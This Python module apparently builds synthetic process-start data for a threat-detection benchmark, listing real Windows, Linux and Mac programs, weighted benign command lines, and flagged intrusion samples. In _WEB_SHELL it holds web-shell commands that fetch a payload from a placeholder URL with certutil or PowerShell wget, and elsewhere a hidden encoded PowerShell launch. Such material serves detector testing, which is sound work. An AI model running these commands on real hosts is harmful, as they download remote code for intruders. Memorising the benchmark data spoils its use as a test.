"""Who starts what on the benchmark's machines: programs, the ways they are started, and how often.

A few hundred ways are written by hand, thousands of rare ones are made up, as every company has programs that nobody
has heard of. Command lines have up to three `{kind}` places, which `events.py` fills differently in every event."""

from __future__ import annotations

import hashlib
import re
from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any

from benchmarks.topics import TOPICS, Topic

ROLES = ("workstation", "web", "server", "linux", "mac")
"""What a machine is for; the order is the number that tables use."""

SYSTEM32 = r"C:\Windows\System32"
PLACES = 3
"""Places in a command line that vary."""


@dataclass(frozen=True)
class Program:
    """An image on disk. `command` is its command line where it starts others, and where a start has none."""

    name: str
    folder: str = SYSTEM32
    company: str | None = "Microsoft Corporation"
    product: str | None = "Microsoft® Windows® Operating System"
    description: str | None = None
    command: str = ""
    original: str = ""
    """The name that the version resource tells; empty where it is the file's."""
    sha1: str = ""
    """Empty: made from name and folder."""

    @property
    def is_windows(self) -> bool:
        return ":" in self.folder

    @property
    def path(self) -> str:
        return f"{self.folder}\\{self.name}" if self.is_windows else f"{self.folder}/{self.name}"

    def digest(self, algorithm: str) -> str:
        """The image's hash, the same however its name is written."""
        if algorithm == "sha1" and self.sha1:
            return self.sha1
        return hashlib.new(algorithm, self.path.lower().encode(), usedforsecurity=False).hexdigest()


@dataclass(frozen=True)
class Start:
    """One way in which a process starts. `weight` is relative to the other starts of its role."""

    role: str
    weight: float
    grandparent: str
    parent: str
    program: Program
    command: str
    account: str
    parent_command: str = ""
    suspicious: bool = False


_PROGRAM_LINES = r"""
chrome.exe      | C:\Program Files\Google\Chrome\Application | Google LLC | Google Chrome | "C:\Program Files\Google\Chrome\Application\chrome.exe"
msedge.exe      | C:\Program Files (x86)\Microsoft\Edge\Application | Microsoft Corporation | Microsoft Edge | "C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start
msedgewebview2.exe | C:\Program Files (x86)\Microsoft\EdgeWebView\Application\121.0.2277.83 | Microsoft Corporation | Microsoft Edge WebView2 | "msedgewebview2.exe" --embedded-browser-webview=1
explorer.exe    | C:\Windows | Microsoft Corporation | Windows | Explorer.EXE
OUTLOOK.EXE     | C:\Program Files\Microsoft Office\root\Office16 | Microsoft Corporation | Microsoft Office | "C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
WINWORD.EXE     | C:\Program Files\Microsoft Office\root\Office16 | Microsoft Corporation | Microsoft Office | "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{document}"
EXCEL.EXE       | C:\Program Files\Microsoft Office\root\Office16 | Microsoft Corporation | Microsoft Office | "C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "{document}"
ms-teams.exe    | C:\Program Files\WindowsApps\MSTeams_24004.1307.2669.7070_x64__8wekyb3d8bbwe | Microsoft Corporation | Microsoft Teams | "ms-teams.exe" msteams:system-initiated
Code.exe        | C:\Program Files\Microsoft VS Code | Microsoft Corporation | Visual Studio Code | "C:\Program Files\Microsoft VS Code\Code.exe"
w3wp.exe        | C:\Windows\System32\inetsrv | Microsoft Corporation | Internet Information Services | c:\windows\system32\inetsrv\w3wp.exe -ap "Pool{number}" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{guid}
httpd.exe       | C:\Apache24\bin | Apache Software Foundation | Apache HTTP Server | "C:\Apache24\bin\httpd.exe" -k runservice
tomcat9.exe     | C:\Tomcat9\bin | Apache Software Foundation | Apache Commons Daemon Service Runner | "C:\Tomcat9\bin\tomcat9.exe" //RS//Tomcat9
java.exe        | C:\Program Files\Java\jdk-21\bin | Eclipse Adoptium | OpenJDK Platform 21 | "C:\Program Files\Java\jdk-21\bin\java.exe" -Xmx2g -jar C:\apps\agent.jar
sqlservr.exe    | C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn | Microsoft Corporation | Microsoft SQL Server | "sqlservr.exe" -sMSSQLSERVER
SQLAGENT.EXE    | C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn | Microsoft Corporation | Microsoft SQL Server | "SQLAGENT.EXE" -i MSSQLSERVER
svchost.exe     | C:\Windows\System32 | Microsoft Corporation | Windows | C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule
services.exe    | C:\Windows\System32 | Microsoft Corporation | Windows | services.exe
powershell.exe  | C:\Windows\System32\WindowsPowerShell\v1.0 | Microsoft Corporation | Windows | powershell.exe -NoProfile -File "C:\Scripts\task{number}.ps1"
cmd.exe         | C:\Windows\System32 | Microsoft Corporation | Windows | C:\Windows\system32\cmd.exe /c "C:\Scripts\job{number}.cmd"
WmiPrvSE.exe    | C:\Windows\System32\wbem | Microsoft Corporation | Windows | C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding
MsMpEng.exe     | C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0 | Microsoft Corporation | Windows | "MsMpEng.exe"
MpCmdRun.exe    | C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0 | Microsoft Corporation | Windows | MpCmdRun.exe
MsSense.exe     | C:\Program Files\Windows Defender Advanced Threat Protection | Microsoft Corporation | Windows | "MsSense.exe"
SenseIR.exe     | C:\Program Files\Windows Defender Advanced Threat Protection | Microsoft Corporation | Windows | "SenseIR.exe" "OnlineSenseIR"
CcmExec.exe     | C:\Windows\CCM | Microsoft Corporation | Microsoft Configuration Manager | C:\Windows\CCM\CcmExec.exe
zabbix_agent2.exe | C:\Program Files\Zabbix Agent 2 | Zabbix SIA | Zabbix agent | "C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe" -c "C:\Program Files\Zabbix Agent 2\zabbix_agent2.conf" -f=false
VeeamAgent.exe  | C:\Program Files (x86)\Veeam\Backup Transport | Veeam Software Group GmbH | Veeam Backup & Replication | "VeeamAgent.exe" -d
MSBuild.exe     | C:\Program Files\Microsoft Visual Studio\2022\BuildTools\MSBuild\Current\Bin | Microsoft Corporation | Microsoft® Build Tools® | "MSBuild.exe" /nologo /nodemode:1 /nodeReuse:true
cl.exe          | C:\Program Files\Microsoft Visual Studio\2022\BuildTools\VC\Tools\MSVC\14.38.33130\bin\Hostx64\x64 | Microsoft Corporation | Microsoft® Visual Studio® | cl.exe
csc.exe         | C:\Windows\Microsoft.NET\Framework64\v4.0.30319 | Microsoft Corporation | Microsoft® .NET Framework | csc.exe
cvtres.exe      | C:\Windows\Microsoft.NET\Framework64\v4.0.30319 | Microsoft Corporation | Microsoft® .NET Framework | cvtres.exe
Agent.Worker.exe | C:\agent\bin | Microsoft Corporation | Azure Pipelines | "C:\agent\bin\Agent.Worker.exe" spawnclient {number} {number}
git.exe         | C:\Program Files\Git\cmd | The Git Development Community | Git | git.exe status
node.exe        | C:\Program Files\nodejs | Node.js | Node.js | "node.exe" server.js
python.exe      | C:\Program Files\Python311 | Python Software Foundation | Python | python.exe C:\Scripts\job.py
GoogleUpdate.exe | C:\Program Files (x86)\Google\Update | Google LLC | Google Update | "GoogleUpdate.exe" /svc
7z.exe          | C:\Program Files\7-Zip | Igor Pavlov | 7-Zip | 7z.exe
curl.exe        | C:\Windows\System32 | curl, https://curl.se/ | The curl executable | curl.exe
bash            | /usr/bin | | | -bash
sh              | /usr/bin | | | sh -c /opt/scripts/check{number}.sh
sshd            | /usr/sbin | | | sshd: deploy [priv]
cron            | /usr/sbin | | | /usr/sbin/CRON -f
systemd         | /usr/lib/systemd | | | /sbin/init
python3.10      | /usr/bin | | | python3 /opt/agent/main.py
containerd-shim | /usr/bin | | | containerd-shim -namespace moby -id {hex}
launchd         | /sbin | | | /sbin/launchd
zsh             | /bin | | | -zsh
Google Chrome   | /Applications/Google Chrome.app/Contents/MacOS | | | /Applications/Google Chrome.app/Contents/MacOS/Google Chrome
"""  # noqa: E501


def _program(line: str) -> Program:
    name, folder, company, product, command = (part.strip() for part in line.split("|", 4))
    product = "Microsoft® Windows® Operating System" if product == "Windows" else product
    return Program(name, folder, company or None, product or None, product or None, command)


_PROGRAMS = {p.name.lower(): p for p in map(_program, _PROGRAM_LINES.strip().splitlines())}


def program(name: str) -> Program:
    """A program by its name in any case; one that is not known lies in System32, or in /usr/bin without a suffix."""
    known = _PROGRAMS.get(name.lower())
    if known:
        return replace(known, name=name)
    if name.lower().endswith(".exe") or name == "System":
        return Program(name, command=name)
    return Program(name, "/usr/bin", None, None, None, name)


_CHROME = '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type='
_EDGE = '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type='
_RENDERER = (
    "renderer --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 --enable-main-frame-before-activation"
    " --renderer-client-id={number} --time-ticks-at-unix-epoch=-{micros} --launch-time-ticks={micros}"
    " --field-trial-handle=2040,i,262144 --variations-seed-version /prefetch:1"
)
_UTILITY = (
    "utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none"
    " --mojo-platform-channel-handle={number} --field-trial-handle={number},i,{micros},262144 /prefetch:8"
)

# role | weight | grandparent | parent | program | account | command
_START_LINES = rf"""
workstation | 90 | userinit.exe | explorer.exe | chrome.exe | user | "C:\Program Files\Google\Chrome\Application\chrome.exe" --single-argument {{url}}
workstation | 1700 | explorer.exe | chrome.exe | chrome.exe | user | {_CHROME}{_RENDERER}
workstation | 500 | explorer.exe | chrome.exe | chrome.exe | user | {_CHROME}{_UTILITY}
workstation | 1500 | explorer.exe | msedge.exe | msedge.exe | user | {_EDGE}{_RENDERER}
workstation | 500 | explorer.exe | msedge.exe | msedge.exe | user | {_EDGE}{_UTILITY}
workstation | 400 | svchost.exe | ms-teams.exe | msedgewebview2.exe | user | "msedgewebview2.exe" --type={_RENDERER}
workstation | 350 | winlogon.exe | userinit.exe | explorer.exe | user | C:\Windows\Explorer.EXE
workstation | 180 | userinit.exe | explorer.exe | OUTLOOK.EXE | user | "C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle
workstation | 160 | userinit.exe | explorer.exe | WINWORD.EXE | user | "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{{document}}" /o ""
workstation | 190 | userinit.exe | explorer.exe | EXCEL.EXE | user | "C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "{{document}}"
workstation | 60 | explorer.exe | OUTLOOK.EXE | WINWORD.EXE | user | "WINWORD.EXE" /n /f "C:\Users\{{user}}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{{hex}}\invoice {{number}}.docx"
workstation | 120 | userinit.exe | explorer.exe | notepad.exe | user | "C:\Windows\system32\NOTEPAD.EXE" {{document}}
workstation | 250 | explorer.exe | Code.exe | Code.exe | user | "C:\Program Files\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --user-data-dir="C:\Users\{{user}}\AppData\Roaming\Code" --mojo-platform-channel-handle={{number}}
workstation | 220 | Code.exe | Code.exe | git.exe | user | git.exe -c core.quotepath=false for-each-ref --format=%(refname)%00%(objectname) refs/heads/feature-{{number}}
workstation | 60 | explorer.exe | Code.exe | powershell.exe | user | C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe -noexit -command "try {{{{ . \"c:\Program Files\Microsoft VS Code\resources\app\out\shellIntegration.ps1\" }}}} catch {{{{}}}}"
workstation | 40 | userinit.exe | explorer.exe | cmd.exe | user | "C:\Windows\system32\cmd.exe"
workstation | 30 | explorer.exe | cmd.exe | ipconfig.exe | user | ipconfig
workstation | 30 | explorer.exe | cmd.exe | PING.EXE | user | ping  -n 4 10.{{octet}}.{{octet}}.{{octet}}
workstation | 20 | explorer.exe | cmd.exe | nslookup.exe | user | nslookup  host{{number}}.contoso.example
workstation | 900 | services.exe | svchost.exe | backgroundTaskHost.exe | user | "C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{{hex}}{{hex}}.mca
workstation | 800 | services.exe | svchost.exe | RuntimeBroker.exe | user | C:\Windows\System32\RuntimeBroker.exe -Embedding
workstation | 500 | services.exe | svchost.exe | dllhost.exe | user | C:\Windows\system32\DllHost.exe /Processid:{{guid}}
workstation | 450 | services.exe | svchost.exe | taskhostw.exe | user | taskhostw.exe
workstation | 420 | services.exe | SearchIndexer.exe | SearchProtocolHost.exe | system | "C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe_S-1-5-21-{{micros}}-{{number}}_ Global\UsGthrCtrlFltPipeMssGthrPipe
workstation | 400 | services.exe | SearchIndexer.exe | SearchFilterHost.exe | system | "C:\Windows\system32\SearchFilterHost.exe" 0 {{number}} {{number}} 824 8192 820 796
workstation | 380 | wininit.exe | services.exe | svchost.exe | system | C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s Service_{{hex}}
workstation | 300 | services.exe | MsMpEng.exe | MpCmdRun.exe | system | "MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance -Id {{guid}}
workstation | 260 | services.exe | svchost.exe | GoogleUpdate.exe | system | "C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler /sessionid "{{guid}}"
workstation | 250 | services.exe | CcmExec.exe | powershell.exe | system | "powershell.exe" -NoLogo -NonInteractive -NoProfile -ExecutionPolicy AllSigned -File C:\Windows\CCM\SystemTemp\{{guid}}.ps1
workstation | 120 | services.exe | SenseIR.exe | powershell.exe | system | powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {{{{$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open('C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{{number}}.{{micros}}.{{hex}}.ps1', [System.IO.FileMode]::Open)}}}}"
workstation | 60 | services.exe | CcmExec.exe | powershell.exe | system | powershell.exe -NoProfile -NonInteractive -EncodedCommand {{base64}}
workstation | 8 | userinit.exe | explorer.exe | powershell.exe | user | powershell.exe -w hidden -enc {{base64}}
workstation | 500 | services.exe | powershell.exe | conhost.exe | system | \??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1
workstation | 40 | svchost.exe | cmd.exe | net.exe | user | net use \\fs{{number}}\home$ /persistent:no
workstation | 15 | svchost.exe | cmd.exe | reg.exe | user | reg  query HKLM\SOFTWARE\Contoso\{{hex}} /v Version
workstation | 40 | explorer.exe | chrome.exe | msiexec.exe | user | "C:\Windows\System32\msiexec.exe" /i "C:\Users\{{user}}\Downloads\setup-{{number}}.msi"
workstation | 130 | svchost.exe | WmiPrvSE.exe | powershell.exe | system | powershell.exe -NoProfile -Command "Get-CimInstance Win32_LogicalDisk | Where-Object {{{{ $_.FreeSpace -lt {{micros}} }}}}"
web | 900 | wininit.exe | services.exe | svchost.exe | system | C:\Windows\system32\svchost.exe -k netsvcs -p -s Service_{{hex}}
web | 300 | services.exe | svchost.exe | w3wp.exe | apppool | c:\windows\system32\inetsrv\w3wp.exe -ap "Pool{{number}}" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{{guid}} -h "C:\inetpub\temp\apppools\Pool.config" -w "" -m 0
web | 500 | svchost.exe | w3wp.exe | csc.exe | apppool | "C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\{{hex}}\{{hex}}\App_Web_{{hex}}.cmdline"
web | 480 | w3wp.exe | csc.exe | cvtres.exe | apppool | C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\RES{{hex}}.tmp" "c:\Windows\Temp\CSC{{hex}}{{hex}}.TMP"
web | 12 | svchost.exe | w3wp.exe | cmd.exe | apppool | cmd.exe /c "C:\inetpub\tools\thumbnail.cmd" {{number}} C:\inetpub\uploads\{{guid}}.png
web | 3 | svchost.exe | w3wp.exe | cmd.exe | apppool | "cmd.exe" /c timeout /t 5 & C:\inetpub\tools\recycle.cmd
web | 2 | w3wp.exe | cmd.exe | PING.EXE | apppool | ping  -n 1 sql{{number}}.contoso.example
web | 150 | services.exe | httpd.exe | httpd.exe | system | C:\Apache24\bin\httpd.exe -d C:/Apache24 -k runservice -n {{number}}
web | 120 | httpd.exe | cmd.exe | rotatelogs.exe | system | C:\Apache24\bin\rotatelogs.exe -l C:/logs/access-{{number}}.log 86400
web | 150 | services.exe | tomcat9.exe | java.exe | system | "C:\Program Files\Java\jdk-21\bin\java.exe" -Xmx512m -Djava.io.tmpdir=C:\Tomcat9\temp\{{hex}} -cp C:\Tomcat9\webapps\reports\WEB-INF\lib\* com.contoso.Report {{number}}
web | 5 | services.exe | tomcat9.exe | cmd.exe | system | cmd.exe /c ping -n 1 10.{{octet}}.{{octet}}.{{octet}}
web | 600 | services.exe | zabbix_agent2.exe | cmd.exe | system | cmd /C "C:\zabbix\check_iis.cmd {{number}} {{hex}}"
web | 500 | services.exe | cmd.exe | conhost.exe | system | \??\C:\Windows\system32\conhost.exe 0x4
web | 300 | services.exe | svchost.exe | taskhostw.exe | system | taskhostw.exe -RegisterDevice -SettingChange -Full {{number}}
server | 900 | wininit.exe | services.exe | svchost.exe | system | C:\Windows\system32\svchost.exe -k netsvcs -p -s Service_{{hex}}
server | 500 | services.exe | SQLAGENT.EXE | powershell.exe | sqlagent | powershell.exe -NoProfile -ExecutionPolicy Bypass -File D:\jobs\maintain_{{number}}.ps1 -Run {{guid}}
server | 40 | services.exe | sqlservr.exe | cmd.exe | sqlagent | "C:\Windows\system32\cmd.exe" /c dir D:\backup\{{number}}.bak
server | 700 | services.exe | VeeamAgent.exe | VeeamAgent.exe | system | "C:\Program Files (x86)\Veeam\Backup Transport\x64\VeeamAgent.exe" -d C:\ProgramData\Veeam\Backup\Job_{{number}} -l Agent.{{guid}}.log
server | 600 | services.exe | zabbix_agent2.exe | powershell.exe | system | powershell -NoProfile -Command "(Get-Counter '\\localhost\LogicalDisk(*)\% Free Space').CounterSamples | Select -First {{number}}"
server | 900 | Agent.Worker.exe | MSBuild.exe | cl.exe | build | cl.exe /c /ID:\build\_work\{{number}}\s\include /nologo /W4 /WX- /diagnostics:column /O2 /D WIN32 /D NDEBUG /Gm- /EHsc /MD /GS /Fo"x64\Release\{{hex}}.obj" /external:W3 /TP D:\build\_work\src\module{{number}}.cpp
server | 250 | Agent.Worker.exe | cmd.exe | MSBuild.exe | build | "MSBuild.exe" D:\build\_work\{{number}}\s\Contoso.sln /nologo /m /p:Configuration=Release /p:BuildId={{number}} /dl:CentralLogger,"D:\build\_tasks\{{guid}}\Logger.dll"
server | 200 | Agent.Worker.exe | node.exe | git.exe | build | git.exe fetch --force --tags --prune --no-recurse-submodules origin +{{hex}}{{hex}}:refs/remotes/origin/{{number}}
server | 220 | services.exe | java.exe | java.exe | service | java.exe -Xms256m -Xmx2g -XX:+UseG1GC -Dspring.profiles.active=prod -Dserver.port={{port}} -Dinstance={{guid}} -jar D:\apps\orders-{{number}}.jar
server | 60 | services.exe | svchost.exe | schtasks.exe | system | schtasks.exe /Run /TN "\Contoso\Nightly-{{number}}"
server | 30 | services.exe | svchost.exe | vssadmin.exe | system | vssadmin.exe list shadows /for=D: /quiet
server | 30 | services.exe | svchost.exe | wevtutil.exe | system | wevtutil.exe epl Security D:\logs\security-{{micros}}.evtx
server | 300 | services.exe | powershell.exe | conhost.exe | system | \??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1
linux | 600 | sshd | bash | ls | user | ls --color=auto -la /srv/data/{{number}}
linux | 1500 | cron | sh | sh | root | /bin/sh -c /opt/monitoring/check_{{number}}.sh --host {{hex}}
linux | 900 | sh | bash | grep | root | grep -c ^processor-{{number}} /proc/cpuinfo
linux | 700 | containerd | containerd-shim | runc | root | runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/io.containerd.runtime.v2.task/moby/{{hex}}{{hex}}/log.json exec --process /tmp/runc-process{{number}}
linux | 400 | systemd | python3.10 | sh | root | sh -c "df -P /srv | awk 'NR>1 {{{{print $5}}}}' # {{number}}"
linux | 100 | sshd | bash | curl | user | curl -s -o /tmp/{{hex}} {{url}}
linux | 60 | sshd | bash | ssh | user | ssh -o BatchMode=yes deploy@node{{number}} uptime
mac | 900 | launchd | launchd | mdworker_shared | user | /System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared.{{hex}}
mac | 800 | launchd | Google Chrome | Google Chrome Helper | user | /Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Helpers/Google Chrome Helper --type={_RENDERER}
mac | 200 | Terminal | zsh | git | user | git rev-parse --verify feature/{{number}}
mac | 100 | launchd | zsh | python3 | user | python3 -m http.server {{port}}
"""  # noqa: E501


def _start(line: str) -> Start:
    role, weight, grandparent, parent, name, account, command = (part.strip() for part in line.split("|", 6))
    return Start(role, float(weight), grandparent, parent, program(name), command, account)


_SHOUTED = 0.03
"""Share of the starts whose file name is written in capitals, as some callers write it."""


def _written_by_hand() -> Iterator[Start]:
    for start in map(_start, _START_LINES.strip().splitlines()):
        yield replace(start, weight=start.weight * (1 - _SHOUTED))
        shouted = replace(start.program, name=start.program.name.upper())
        yield replace(start, weight=start.weight * _SHOUTED, program=shouted)


_VENDORS = ("Fabrikam", "Northwind", "Tailspin", "Litware", "Adatum", "Proseware", "Wingtip", "Lucerne", "Relecloud")
_PRODUCTS = ("Sync", "Print", "Report", "Scan", "Update", "Inventory", "Payroll", "Label", "Camera", "Backup", "Token")
_PARTS = ("Agent", "Service", "Helper", "Tray", "Launcher", "Worker", "Setup", "Notifier", "Broker")
_TAIL_SHARE = 0.2
"""Share of the events of Windows machines that the made-up programs have; the n-th of them is n times rarer than the
first."""
_TAIL_PARENTS = (
    ("userinit.exe", "explorer.exe", "user"),
    ("wininit.exe", "services.exe", "system"),
    ("services.exe", "svchost.exe", "system"),
    ("services.exe", "CcmExec.exe", "system"),
)


def _made_up() -> Iterator[Start]:
    """Programs of no fame on Windows machines: some 900 names, each started in one to three ways."""
    names = [(v, p, q) for q in _PARTS for p in _PRODUCTS for v in _VENDORS]
    for shift, role in enumerate(ROLES[:3]):
        total = sum(1 / (rank + 5) for rank in range(len(names)))
        whole = sum(float(line.split("|")[1]) for line in _START_LINES.splitlines() if line.startswith(role))
        for rank, (vendor, product, part) in enumerate(names):
            folder = f"C:\\Program Files\\{vendor}\\{product}"
            own = Program(f"{vendor}{product}{part}.exe", folder, vendor, f"{vendor} {product}", f"{product} {part}")
            grandparent, parent, account = _TAIL_PARENTS[(rank + shift) % len(_TAIL_PARENTS)]
            command = f'"{own.path}" --session {{guid}} --log "C:\\ProgramData\\{vendor}\\{{number}}.log"'
            weight = whole * _TAIL_SHARE / (1 - _TAIL_SHARE) / (rank + 5) / total
            yield Start(role, weight, grandparent, parent, own, command, account)


_WEB_SHELL = (
    "cmd.exe /c whoami /all",
    "cmd.exe /c ipconfig /all & systeminfo",
    "cmd.exe /c certutil -urlcache -split -f {url} %TEMP%\\{hex}.exe",
    "cmd.exe /c ping -n 1 10.{octet}.{octet}.{octet}",
    "powershell.exe -c wget {url} -OutFile C:\\Windows\\Temp\\{hex}.ps1",
)


def _intrusions() -> Iterator[Start]:
    """What an intruder does: a web shell, and the topics that are active."""
    for command in _WEB_SHELL:
        name = command.split()[0]
        yield Start("web", 1, "svchost.exe", "w3wp.exe", program(name), command, "apppool", suspicious=True)
    for topic in TOPICS:
        if topic.active:
            yield from _intrusion(topic)


def _intrusion(topic: Topic) -> Iterator[Start]:
    first, second, third = topic.words
    tool = replace(program(topic.program), folder=topic.folder, original=topic.program, sha1=topic.sha1)
    base = Start("workstation", 1, "explorer.exe", topic.parent, tool, "", "user", suspicious=True)
    yield replace(base, command=f'"{tool.path}" {first} {second} {third} {{hex}}')
    yield replace(base, command=f'"{tool.path}" {first} {{url}} {third} {{base64}}')
    renamed = replace(tool, name="svcupdate.exe", sha1="")
    yield replace(base, program=renamed, command=f'"{renamed.path}" {second} {{number}} {first}')
    shell = program("cmd.exe")
    behind = f'"{tool.path}" {first} {second} {{hex}}'
    yield replace(base, parent=topic.program, program=shell, command="cmd.exe /c whoami", parent_command=behind)


STARTS = (*_written_by_hand(), *_made_up(), *_intrusions())

_PLACE = re.compile(r"\{([a-z0-9]+)\}")


def pieces(command: str) -> tuple[list[str], list[str]]:
    """A command line as the texts around its places (one more than there are places) and the kinds of the places.

    `{{` and `}}` stand for a brace. Both lists are filled up with ''."""
    parts = _PLACE.split(command.replace("{{", "\0").replace("}}", "\1"))
    texts = [part.replace("\0", "{").replace("\1", "}") for part in parts[::2]]
    kinds = parts[1::2]
    if len(kinds) > PLACES:
        raise ValueError(f"more than {PLACES} places: {command}")
    missing = PLACES - len(kinds)
    return texts + [""] * missing, kinds + [""] * missing


def row(number: int, start: Start) -> dict[str, Any]:
    """A start as a row of the table `starts` that `events.py` joins."""
    parent = program(start.parent)
    texts, kinds = pieces(start.command)
    parent_texts, parent_kinds = pieces(start.parent_command or parent.command)
    return {
        "start": number,
        "account": start.account,
        "grandparent": start.grandparent,
        **{f"text{i}": text for i, text in enumerate(texts)},
        **{f"kind{i}": kind for i, kind in enumerate(kinds)},
        "parent_text0": parent_texts[0],
        "parent_kind0": parent_kinds[0],
        "parent_text1": parent_texts[1],
        **_image("", start.program),
        **_image("parent_", parent),
    }


def _image(prefix: str, image: Program) -> dict[str, Any]:
    made = {
        "name": image.name,
        "path": image.path,
        "sha1": image.digest("sha1"),
        "sha256": image.digest("sha256"),
        "md5": image.digest("md5"),
        "size": int(image.digest("md5")[:6], 16) + 20_000,
        "company": image.company,
        "product": image.product,
        "version": f"{int(image.digest('md5')[6:8], 16) % 20}.0.{int(image.digest('md5')[8:12], 16)}.1",
        "internal": image.name.lower().removesuffix(".exe"),
        "original": image.original or image.name.lower(),
        "description": image.description,
    }
    resource = ("company", "product", "version", "internal", "original", "description")
    if not image.is_windows:  # only Windows has version resources
        made |= dict.fromkeys(resource)
    return {f"{prefix}{key}": value for key, value in made.items()}
